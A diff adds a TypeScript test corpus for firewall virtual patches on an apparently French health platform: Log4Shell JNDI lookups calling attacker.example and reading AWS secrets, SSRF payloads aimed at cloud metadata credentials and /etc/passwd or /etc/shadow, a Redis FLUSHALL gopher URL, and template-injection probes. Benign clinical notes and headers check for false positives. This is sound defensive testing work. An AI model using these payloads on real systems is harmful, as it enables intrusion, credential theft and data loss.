@@ -1,0 +1,193 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are Log4j and template syntax, not JS templates
+/**
+ * Test corpus of the shipped virtual-patch signatures (virtualPatches.ts): the
+ * attack variants each must block and legitimate French health-platform values and browser
+ * headers none may touch. Read by the unit tests (JavaScript regex, simulated transformations)
+ * and by modules/lab/wafPatches.int.test.ts (real nginx + ModSecurity). Data only.
+ */
+
+/** Log4Shell (CVE-2021-44228, CVE-2021-45046): lookups and their obfuscations, as the application would receive them. */
+export const LOG4SHELL_VARIANTS: readonly string[] = [
+  '${jndi:ldap://attacker.example/a}',
+  '${jndi:rmi://attacker.example:1099/obj}',
+  '${jndi:dns://attacker.example/a}',
+  '${JNDI:LDAP://attacker.example/a}',
+  '${jNdI:lDaP://attacker.example/a}',
+  '${${lower:j}ndi:ldap://attacker.example/a}',
+  '${${upper:j}${upper:n}di:ldap://attacker.example/a}',
+  '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}',
+  '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}',
+  '${j${k8s:k5:-ND}i:ldap://attacker.example/a}',
+  '${env:AWS_SECRET_ACCESS_KEY}',
+  '${sys:java.version}',
+  '${ctx:loginId}',
+  '${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}',
+  '${date:YYYY}${jndi:ldap://attacker.example/a}',
+  '${ jndi:ldap://attacker.example/a}',
+  '%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D',
+  '%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D',
+  '%u0024%u007Bjndi:ldap://attacker.example/a%u007D',
+  '\\u0024\\u007bjndi:ldap://attacker.example/a}',
+  '\\x24\\x7bjndi:ldap://attacker.example/a}',
+  '&#36;&#123;jndi:ldap://attacker.example/a}',
+  '&dollar;&lbrace;jndi:ldap://attacker.example/a}',
+  'Mozilla/5.0 ${jndi:ldap://attacker.example/ua}',
+];
+
+/** SSRF to cloud metadata and link-local addresses through alternate encodings and schemes. */
+export const SSRF_VARIANTS: readonly string[] = [
+  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+  'http://169.254.169.254:80/latest/meta-data/',
+  'http://169.254.170.2/v2/credentials',
+  'http://2852039166/latest/meta-data/',
+  'http://user@2852039166/',
+  '2852039166',
+  'http://0xA9FEA9FE/latest/meta-data/',
+  '0xa9fea9fe',
+  'http://0xa9.0xfe.0xa9.0xfe/',
+  'http://0xA9.0xFE.0xA9.0xFE/',
+  'http://0251.0376.0251.0376/',
+  'http://0251.254.169.254/',
+  'http://169.0376.0xa9.254/',
+  'http://169.16689662/',
+  'http://169.254.43518/',
+  'http://025177524776/',
+  'http://[::ffff:169.254.169.254]/',
+  'http://[::ffff:a9fe:a9fe]/',
+  'http://[0:0:0:0:0:ffff:a9fe:a9fe]/',
+  'http://[64:ff9b::a9fe:a9fe]/',
+  'http://[fe80::1%25eth0]/',
+  'http://[fd00:ec2::254]/latest/meta-data/',
+  'http://169。254。169。254/',
+  'http://169.254.169.254.nip.io/',
+  'http://metadata.google.internal/computeMetadata/v1/',
+  'http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/',
+  'http://metadata.goog/computeMetadata/v1/',
+  'http://metadata.azure.com/metadata/instance',
+  'http://metadata.tenant.internal/v1/',
+  'http://metadata/computeMetadata/v1/',
+  'http://instance-data/latest/meta-data/',
+  'http://100.100.100.200/latest/meta-data/',
+  'gopher://127.0.0.1:6379/_FLUSHALL',
+  'dict://127.0.0.1:11211/stats',
+  'file:///etc/passwd',
+  'FILE:///etc/shadow',
+  'file:/etc/passwd',
+  'ldap://attacker.example/o=x',
+  'tftp://attacker.example/x',
+  'netdoc:///etc/passwd',
+  'jar:http://attacker.example/x.jar!/a',
+  'php://filter/resource=/etc/passwd',
+  'http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F',
+  'http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/',
+  '&#104;ttp://169.254.169.254/',
+];
+
+/** Template and expression injection. */
+export const TEMPLATE_VARIANTS: readonly string[] = [
+  '{{7*7}}',
+  '{{ config.items() }}',
+  "{{''.__class__.__mro__[1].__subclasses__()}}",
+  '${7*7}',
+  '#{7*7}',
+  '*{7*7}',
+  '@{7*7}',
+  '<%= 7*7 %>',
+  '{% for x in range(10) %}',
+  '%7B%7B7*7%7D%7D',
+  'Bonjour {{7*7}} docteur',
+];
+
+/** Legitimate clinical notes and values (French, with apostrophes, SQL-looking words, units, numbers). */
+export const CLINICAL_NOTES: readonly string[] = [
+  "Patient refuse l'union des deux dossiers ; drop du doublon après vérification de l'INS.",
+  'Ordonnance renouvelée ; date de fin : 12/06/2027. Amoxicilline 1 g x 3/j pendant 7 jours.',
+  "Hospitalisation du 02/01 au 09/01 ; select des antibiotiques selon l'antibiogramme (E. coli BLSE).",
+  'SpO2 98 % en air ambiant, FC 72/min, TA 128/76 mmHg, T° 37,2 °C.',
+  "Mme Lefèvre-N'Diaye, née le 14/03/1952, 3 rue de l'Église, 69003 Lyon.",
+  'Antécédents : HTA, DT2 (HbA1c 7,4 %), insuffisance rénale chronique stade 3 (DFG 45 mL/min/1,73 m²).',
+  "Allergie : pénicilline (urticaire) ; suivi au CHU de Bordeaux, service d'endocrinologie – Dr O'Connor.",
+  'Compte rendu opératoire : cholécystectomie cœlioscopique, suites simples. Sortie J+2, contrôle à 1 mois.',
+  'IRM cérébrale {séquences T1, T2, FLAIR, diffusion} sans anomalie ; pas de prise de contraste.',
+  'Patient sous AVK — INR cible 2–3 ; dernier INR 2,6 le 28/11. Pas de saignement.',
+  "Traitement : paracétamol 1 g si douleur (max 4 g/24 h) ; pas d'AINS ; où et quand : à domicile, le soir.",
+  'Score de Glasgow 15/15, pupilles symétriques réactives. EVA 3/10 → 1/10 après morphine 5 mg.',
+  'Biologie : CRP 169,2 mg/L ; leucocytes 12,4 G/L ; plaquettes 254 G/L ; Na 138 mmol/L.',
+  'Consultation de suivi #12 : poids 72,5 kg (−1,5 kg), IMC 24,1 ; objectif atteint à 100 %.',
+  "Le patient déclare : « je n'ai plus mal depuis mardi » ; à revoir dans 3 mois (ou plus tôt si fièvre > 38,5 °C).",
+  'Courrier adressé à dr.martin@medecin.mssante.fr via MSSanté ; copie au médecin traitant.',
+  'Prise en charge à 100 % (ALD 30) ; bon de transport ordonnance n° 2852039166.',
+  'Dossier 169.254 : RAS.',
+  'Kinésithérapie 2x/semaine, 10 séances ; reprise du sport à J+45 ; arrêt de travail jusqu’au 15/01.',
+  "Échographie abdominale : foie d'aspect normal, vésicule alithiasique ; rate 11 cm.",
+  'Union de fait ; enfants : 2 ; profession : informaticienne (select et update de bases de données).',
+  'Résultat : « positif » — à confirmer ; or, le test précédent était négatif (et délai < 72 h).',
+  "Note : l'utilisatrice a signalé un fichier joint illisible ; fichier renvoyé, lu sans problème.",
+  'Tension 12/8, pouls 80, glycémie 1,05 g/L à jeun ; HbA1c 6,9 % ; LDL 1,12 g/L.',
+  'Prescription : Doliprane 1000 mg, 1 cp x 3/j ; Spasfon 80 mg si besoin ; renouvellement 3 mois.',
+  "Adresse : 12 bis avenue Jean-Jaurès, appartement 4B, 31000 Toulouse ; digicode 1984A (n'oubliez pas).",
+  'ECG : rythme sinusal, 68/min, PR 160 ms, QRS fins, QTc 420 ms ; pas de trouble de repolarisation.',
+  'Vaccination : grippe le 15/10/2026 (lot AB1234), Covid-19 rappel le 02/11/2026.',
+  'Diagnostic CIM-10 : E11.9 ; I10 ; N18.3 ; code CCAM : HMFC004.',
+  "Mot du patient : « C'est 50/50, j'hésite… » ; décision partagée, réévaluation à 1 mois.",
+];
+
+/** A FHIR Observation, as a JSON body (values become ARGS json.*). */
+export const FHIR_OBSERVATION = {
+  resourceType: 'Observation',
+  id: 'obs-spo2-0001',
+  status: 'final',
+  category: [{ coding: [{ system: 'http://terminology.hl7.org/CodeSystem/observation-category', code: 'vital-signs' }] }],
+  code: { coding: [{ system: 'http://loinc.org', code: '59408-5', display: 'Oxygen saturation in Arterial blood by Pulse oximetry' }] },
+  subject: { reference: 'Patient/p-0042', display: "Mme Lefèvre-N'Diaye" },
+  effectiveDateTime: '2026-11-28T09:41:00+01:00',
+  valueQuantity: { value: 98, unit: '%', system: 'http://unitsofmeasure.org', code: '%' },
+  note: [{ text: "Mesure au repos ; patient refuse l'union des dossiers, select du dossier principal fait." }],
+};
+
+/** Headers of real browsers and API clients. */
+export const NORMAL_HEADERS: ReadonlyArray<Record<string, string>> = [
+  {
+    'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
+    Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
+    'Accept-Language': 'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7',
+    'Accept-Encoding': 'gzip, deflate, br, zstd',
+    Referer: 'https://www.monespacesante.fr/dossier-medical/documents?tri=date&ordre=desc',
+    'Sec-CH-UA': '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
+    'Sec-CH-UA-Platform': '"Windows"',
+    'Sec-Fetch-Site': 'same-origin',
+    'Cache-Control': 'no-cache',
+  },
+  {
+    'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
+    Accept: 'application/json, text/plain, */*',
+    'Accept-Language': 'fr,fr-FR;q=0.8,en-US;q=0.5,en;q=0.3',
+    Referer: 'https://pro.dmp.fr/patient/dossier?ins=2852039166&onglet=synthese',
+    DNT: '1',
+  },
+  {
+    'User-Agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
+    'Accept-Language': 'fr-FR,fr;q=0.9',
+    Cookie: '_ga=GA1.1.1692541234.1700000000; lang=fr; consent={"stats":true}',
+    'If-None-Match': 'W/"5e-1a2b3c4d"',
+  },
+  {
+    'User-Agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
+    'Accept-Language': 'fr-FR,fr;q=0.9',
+    Referer: 'https://www.monespacesante.fr/',
+  },
+  {
+    'User-Agent': 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
+    'Accept-Language': 'fr-FR,fr;q=0.9,ar;q=0.8',
+  },
+  {
+    'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
+    Authorization: 'Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJwcm8tMDA0MiIsInNjb3BlIjoiZG9jdW1lbnRzIn0.c2lnbmF0dXJlLXBsYWNlaG9sZGVy',
+    'X-Forwarded-For': '203.0.113.7, 10.38.1.20',
+    traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
+  },
+  { 'User-Agent': 'okhttp/4.12.0', Accept: 'application/fhir+json' },
+  { 'User-Agent': 'Java-http-client/21.0.5', 'Accept-Language': 'fr' },
+  { 'User-Agent': 'curl/8.5.0', Accept: '*/*' },
+  { 'User-Agent': 'python-requests/2.32.3', 'Accept-Encoding': 'gzip, deflate' },
+];
